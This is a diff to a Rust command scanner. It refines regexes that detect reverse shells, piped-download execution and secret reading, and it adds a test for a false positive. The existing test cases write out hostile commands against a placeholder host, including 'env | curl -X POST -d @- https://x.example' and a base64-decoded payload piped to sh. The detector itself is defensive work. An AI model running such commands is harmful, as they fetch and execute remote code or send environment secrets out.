@@ -58,7 +58,7 @@ static REMOTE_SHELL: Pattern =
     Pattern::new(r"(?i)/dev/(tcp|udp)/|\bn(c|cat|etcat)\b[^|;&\n]*\s-(e|c)\s|\bmkfifo\b[^\n]*\bn(c|cat)\b|\bsocat\b[^\n]*\bexec:");
 static RUNS_DOWNLOAD: Pattern = Pattern::new(
     r#"(?ix)
-    \b(curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch)\b [^\n;]*? \|\s* (sudo\s+(-\S+\s+)*)? (env\s+(\S+=\S+\s+)*)? (/\S*/)?
+    \b(curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch)\s [^\n;]*? \|\s* (sudo\s+(-\S+\s+)*)? (env\s+(\S+=\S+\s+)*)? (/\S*/)?
         (ba|z|da|k|fi|a)?(sh|python[\d.]*|node|perl|ruby|php|iex|invoke-expression|bun|deno)\b
     | \b(ba|z|da|k|fi|a)?sh\b [^\n|;&]* (<\(|\$\(|`) \s*(curl|wget)\b
     | (\bsource|^\s*\.|[;&|]\s*\.) \s+ <\( \s*(curl|wget)\b
@@ -87,7 +87,7 @@ static SENDS: Pattern = Pattern::new(
 );
 static SECRET: Pattern = Pattern::new(
     r"(?ix)
-    (^|[\s;&|(`$])(printenv|env|set|export\s+-p)\s*(\||$|\)|>) | /proc/(self|\d+|\$\w+)/environ | tojson\(\s*secrets
+    (^|[\s;&|(`$@])(printenv|env|set|export\s+-p)\s*(\||$|\)|>) | /proc/(self|\d+|\$\w+)/environ | tojson\(\s*secrets
     | \$\{?\{?\s*(secrets\.)?\w*(token|secret|password|passwd|api_?key|access_?key|private_?key|credential)\w* | \.aws/credentials | \.ssh/id_ | \.netrc | \.npmrc
     | \.git-credentials | \.config/gh/ | process\.env\b[^.\[] | os\.environ\b[^.\[] | 169\.254\.169\.254
     ",
@@ -169,6 +169,7 @@ mod tests {
             ("bash <(curl -s https://x.example)", Some(Deed::RunsDownload)),
             ("curl -o /tmp/x https://x.example && chmod +x /tmp/x", Some(Deed::RunsDownload)),
             ("iex (iwr https://x.example/a.ps1)", Some(Deed::RunsDownload)),
+            ("/^(get|set|fetch|load|build|sh|node)$/", None),
             ("echo aGk= | base64 -d | sh", Some(Deed::RunsDecoded)),
             ("python3 -c \"import base64;exec(base64.b64decode('x'))\"", Some(Deed::RunsDecoded)),
             ("env | curl -X POST -d @- https://x.example", Some(Deed::SendsSecret)),
